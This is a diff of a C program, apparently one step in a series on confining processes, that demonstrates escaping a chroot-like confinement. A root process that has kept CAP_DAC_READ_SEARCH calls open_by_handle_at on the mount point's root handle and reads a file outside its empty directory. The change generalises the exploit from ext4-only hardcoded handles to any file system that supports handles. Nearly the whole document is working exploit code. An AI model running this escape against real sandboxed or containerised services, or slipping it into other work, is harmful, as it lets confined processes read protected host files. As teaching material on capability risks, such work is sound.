@@ -1,6 +1,6 @@
 /* step16-escape.c - an attack that works: root with one capability too many
  *
- *   ./step16-escape FILE      as root; FILE must be on an ext4 file system
+ *   ./step16-escape FILE      as root
  *
  * A web server with uid 0 is shut up in an empty directory.  It has
  * CAP_NET_BIND_SERVICE for its port, and CAP_DAC_READ_SEARCH because some of its
@@ -12,34 +12,44 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
-#include <linux/magic.h>
-#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/capability.h>
 #include <sys/stat.h>
-#include <sys/vfs.h>
 #include <unistd.h>
 
-/* below_root: an absolute path without the mount point that it begins with */
-static const char *below_root(const char *path)
+/* split: an absolute path into its mount point, and (after that length) what is below */
+static size_t split(const char *path, char *point)
 {
-	char prefix[PATH_MAX] = "/";
 	struct stat file, dir;
 	size_t length = 1;
 
-	if (stat(path, &file) == -1)
-		err(1, "%s", path);
-	while (stat(prefix, &dir) == 0 && dir.st_dev != file.st_dev) {
+	strcpy(point, "/");
+	while (stat(path, &file) == 0 && stat(point, &dir) == 0 && dir.st_dev != file.st_dev) {
 		length += strcspn(path + length, "/") + 1;
-		snprintf(prefix, sizeof(prefix), "%.*s", (int)length, path);
+		snprintf(point, PATH_MAX, "%.*s", (int)length, path);
 	}
-	return path + length;
+	return length;
 }
 
-/* shut_up: into a directory beside FILE, on the same file system, which is
- * nameless from then on */
+/* handle_of: most often an inode number and a generation.  It is no secret. */
+static struct file_handle *handle_of(const char *path)
+{
+	static _Alignas(struct file_handle) char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
+	struct file_handle *handle = (struct file_handle *)space;
+	int mount;
+	handle->handle_bytes = MAX_HANDLE_SZ;
+	if (name_to_handle_at(AT_FDCWD, path, handle, &mount, 0) == -1)
+		err(errno == EOPNOTSUPP ? 77 : 1, "%s: no handles on this file system", path);
+	printf("handle of its root:");
+	for (unsigned int i = 0; i < handle->handle_bytes; i++)
+		printf("%s%02x", i % 4 == 0 ? " " : "", handle->f_handle[i]);
+	printf("\n");
+	return handle;
+}
+
+/* shut_up: into a nameless directory on the same file system */
 static void shut_up(const char *path)
 {
 	char dir[PATH_MAX + 8];
@@ -65,35 +75,26 @@ static void print(const char *how, int fd)
 	ssize_t length = fd == -1 ? -1 : read(fd, text, sizeof(text));
 
 	if (length == -1)
-		printf("%s%s\n", how, strerror(errno));
-	else
-		printf("%s%.*s", how, (int)length, text);
+		length = snprintf(text, sizeof(text), "%s\n", strerror(errno));
+	printf("%s%.*s", how, (int)length, text);
 }
 
 int main(int argc, char **argv)
 {
 	static const cap_value_t kept[] = { CAP_NET_BIND_SERVICE, CAP_DAC_READ_SEARCH };
-	static const uint32_t inode_generation[] = { 2, 0 };	/* of the root directory of every ext4 */
-	struct file_handle *root = calloc(1, sizeof(*root) + sizeof(inode_generation));
-	char path[PATH_MAX];
-	struct statfs fs;
+	char path[PATH_MAX] = "", point[PATH_MAX];
 
 	if (argc != 2)
 		errx(2, "usage: step16-escape FILE");
-	if (!realpath(argv[1], path) || statfs(path, &fs) == -1 || !root)
+	if (!realpath(argv[1], path))
 		err(1, "%s", argv[1]);
-	if (fs.f_type != EXT4_SUPER_MAGIC)
-		errx(77, "%s is not on an ext4 file system: this attack knows no other", path);
-	const char *rest = below_root(path);
+	size_t length = split(path, point);
+	struct file_handle *root = handle_of(point);
 
 	shut_up(path);
 	keep(sizeof(kept) / sizeof(kept[0]), kept);
 	print("by its path:       ", open(path, O_RDONLY | O_CLOEXEC));
-
-	root->handle_bytes = sizeof(inode_generation);
-	root->handle_type = 1;
-	memcpy(root->f_handle, inode_generation, sizeof(inode_generation));
 	int dir = open_by_handle_at(AT_FDCWD, root, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
 
-	print("by a handle:       ", dir == -1 ? -1 : openat(dir, rest, O_RDONLY | O_CLOEXEC));
+	print("by the handle:     ", dir == -1 ? -1 : openat(dir, path + length, O_RDONLY | O_CLOEXEC));
 }
